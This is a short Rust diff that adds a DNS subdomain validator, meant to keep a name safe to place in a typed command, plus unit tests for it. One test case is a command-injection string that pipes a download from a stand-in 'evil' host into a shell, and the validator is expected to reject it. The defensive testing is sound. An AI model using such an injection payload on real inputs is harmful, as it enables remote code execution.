@@ -404,6 +404,11 @@ pub(super) fn is_name(text: &str) -> bool {
         && !text.ends_with('-')
 }
 
+/// Tells whether a text is a DNS subdomain, so that it can stand in a command that is to be typed.
+pub(super) fn is_subdomain(text: &str) -> bool {
+    text.len() <= 253 && text.split('.').all(is_name)
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -499,5 +504,14 @@ mod tests {
             assert_eq!(is_name(text), is_one, "{text}");
         }
         assert!(!is_name(&"a".repeat(64)));
+        for (text, is_one) in [
+            ("a", true),
+            ("a.b-c", true),
+            ("", false),
+            ("a..b", false),
+            ("x; curl evil|sh #", false),
+        ] {
+            assert_eq!(is_subdomain(text), is_one, "{text}");
+        }
     }
 }
